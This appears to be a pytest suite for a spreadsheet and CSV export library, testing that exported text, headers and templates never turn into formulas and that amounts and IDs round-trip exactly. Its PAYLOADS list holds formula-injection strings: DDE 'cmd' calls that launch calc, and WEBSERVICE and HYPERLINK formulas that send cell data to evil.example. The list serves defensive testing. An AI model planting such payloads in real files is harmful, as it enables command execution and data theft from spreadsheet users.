"""Exports and templates: text stays text, amounts stay exact, and nothing typed by anybody is ever computed."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.core.sheets.tables import COLUMNS, TODAY, a_person, an_id, read, saved

from yimen.core.sheets import (
    Column,
    Kind,
    OutSheet,
    harmless,
    read_table,
    write_csv,
    write_template,
    write_workbook,
)

AT = datetime(2026, 11, 22, tzinfo=UTC)
NAME = Column("name", "姓名", longest=400)

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"点这里")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "　=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    '=1+1",=2+2',
    "==1",
    "-2+3+cmd|' /C calc'!A0",
    '+"&A1&"',
    "\u200e=1",
    "=",
]
DANGEROUS = tuple("=+-@＝＋－＠\t\r\n")


def book_of(*sheets: OutSheet) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(bytes_of(*sheets)))


def bytes_of(*sheets: OutSheet) -> bytes:
    target = io.BytesIO()
    write_workbook(target, sheets, at=AT)
    return target.getvalue()


def visible(text: str) -> str:
    return text.strip(" \u00a0\u3000\u200b\u200e\ufeff")


def test_there_are_at_least_thirty_payloads():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(payload) for payload in PAYLOADS])
def test_a_formula_payload_is_text_in_every_export(payload):
    sheet = OutSheet("名单", (NAME,), [{"name": payload}], title=payload)

    book = book_of(sheet)
    csv_text = io.BytesIO()
    write_csv(csv_text, sheet)

    for cell in (book["名单"]["A1"], book["名单"]["A3"]):
        assert cell.data_type == "s"
        assert not visible(cell.value).startswith(DANGEROUS)
    [_, row] = list(csv.reader(io.StringIO(csv_text.getvalue().decode("utf-8-sig"), newline="")))
    assert len(row) == 1
    assert not visible(row[0]).startswith(DANGEROUS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(payload) for payload in PAYLOADS])
def test_a_header_or_an_example_cannot_be_a_formula_either(payload):
    target = io.BytesIO()
    write_template(target, (Column("name", payload, example=payload, note=payload),), name="名单", at=AT)

    book = openpyxl.load_workbook(io.BytesIO(target.getvalue()))

    formulas = [cell for page in book for row in page.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=30), min_size=1, max_size=8))
def test_no_text_at_all_becomes_a_formula_a_number_or_a_link(texts):
    page = book_of(OutSheet("名单", (NAME,), [{"name": text} for text in texts]))["名单"]

    for line, _ in enumerate(texts, start=2):
        assert page.cell(line, 1).data_type in ("s", "n")
        assert page.cell(line, 1).value is None or isinstance(page.cell(line, 1).value, str)
        assert page.cell(line, 1).hyperlink is None


def test_harmless_text_is_left_alone():
    assert [harmless(text) for text in ("张三", "", "1-2 号楼", "a=b", "'引号")] == [
        "张三",
        "",
        "1-2 号楼",
        "a=b",
        "'引号",
    ]


def people_as_values() -> list[dict[str, object]]:
    return [
        {
            "name": f"={number}",
            "id": an_id(number),
            "amount": 60_000 + number,
            "account": f"62284800{number:08d}",
            "since": date(2026, 3, 5),
            "rural": number % 2 == 0,
            "relation": "spouse",
        }
        for number in range(30)
    ]


def test_a_workbook_reads_back_as_it_was_written():
    rows, reading = read(bytes_of(OutSheet("在册人员", COLUMNS, people_as_values(), title="名单")))

    assert [dict(row.values) for row in rows] == people_as_values()
    assert not reading.problems


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_csv_reads_back_as_it_was_written(encoding):
    target = io.BytesIO()
    write_csv(target, OutSheet("", COLUMNS, people_as_values()), encoding=encoding)

    rows, _ = read(target.getvalue())

    assert [dict(row.values) for row in rows] == people_as_values()


@settings(max_examples=200, deadline=None)
@given(st.lists(st.integers(-(10**14), 10**14), min_size=1, max_size=10))
def test_every_amount_is_the_same_fen_after_reading_back(amounts):
    columns = (Column("amount", "金额", Kind.MONEY, required=True, low=-(10**15)),)
    data = bytes_of(OutSheet("表", columns, [{"amount": amount} for amount in amounts]))

    assert [row["amount"] for row in read_table(data, columns=columns).rows] == amounts


def test_ids_and_accounts_are_text_cells():
    page = book_of(OutSheet("在册人员", COLUMNS, people_as_values()))["在册人员"]

    for column in "BD":
        assert page[f"{column}2"].data_type == "s"
        assert page[f"{column}2"].number_format == "@"


def test_totals_are_numbers_that_agree_with_the_rows():
    page = book_of(OutSheet("在册人员", COLUMNS, people_as_values(), totals=("amount",)))["在册人员"]

    assert page["A32"].value == "合计"
    assert page["C32"].value == sum(row["amount"] for row in people_as_values()) / 100
    assert page["C32"].data_type == "n"


def test_totals_of_an_empty_table_stand_under_the_header():
    page = book_of(OutSheet("在册人员", COLUMNS, [], title="空", totals=("amount",)))["在册人员"]

    assert (page["A3"].value, page["C3"].value) == ("合计", 0)


def test_the_same_rows_give_the_same_file():
    assert bytes_of(OutSheet("a", COLUMNS, people_as_values())) == bytes_of(
        OutSheet("a", COLUMNS, people_as_values())
    )


def test_the_file_names_nobody():
    with zipfile.ZipFile(io.BytesIO(bytes_of(OutSheet("a", COLUMNS, [])))) as parts:
        core = parts.read("docProps/core.xml").decode()

    assert "<dc:creator></dc:creator>" in core
    assert "2026-11-22" in core


# The template we give out -------------------------------------------------------------------------------------------


def template(columns=COLUMNS) -> bytes:
    target = io.BytesIO()
    write_template(target, columns, name="在册人员", at=AT)
    return target.getvalue()


def test_the_template_filled_in_is_read_and_its_example_passed_over():
    book = openpyxl.load_workbook(io.BytesIO(template()))
    book["在册人员"].append([1, *a_person(4)])

    rows, reading = read(saved(book))

    assert [row["name"] for row in rows] == ["张4"]
    assert not reading.problems
    assert reading.notices == []


def test_the_template_keeps_digits_as_text():
    page = openpyxl.load_workbook(io.BytesIO(template()))["在册人员"]

    assert page.column_dimensions["C"].number_format == "@"
    assert page.column_dimensions["E"].number_format == "@"


def test_the_template_checks_what_is_typed():
    page = openpyxl.load_workbook(io.BytesIO(template()))["在册人员"]
    checks = {str(check.sqref).partition("3")[0]: check for check in page.data_validations.dataValidation}

    assert checks["C"].type == "textLength"
    assert checks["D"].type == "decimal"
    assert checks["H"].formula1 == '"本人,配偶,子女"'


def test_a_long_list_of_choices_stands_in_a_sheet():
    choices = {f"第{number}号很长的选项名称": str(number) for number in range(80)}
    book = openpyxl.load_workbook(
        io.BytesIO(template((Column("kind", "类别", Kind.CHOICE, choices=choices),)))
    )
    [check] = book["在册人员"].data_validations.dataValidation

    assert check.formula1 == "'填写说明'!$L$1:$L$80"
    assert book["填写说明"]["L80"].value == "第79号很长的选项名称"


def test_the_template_explains_every_column():
    page = openpyxl.load_workbook(io.BytesIO(template()))["填写说明"]
    words = {str(cell.value) for row in page.iter_rows() for cell in row}

    assert {column.label for column in COLUMNS} <= words


def test_an_empty_template_is_refused_as_empty():
    reading = read_table(template(), columns=COLUMNS, synthetic=True, on=TODAY)

    with pytest.raises(Exception, match="没有数据行"):
        list(reading.rows)
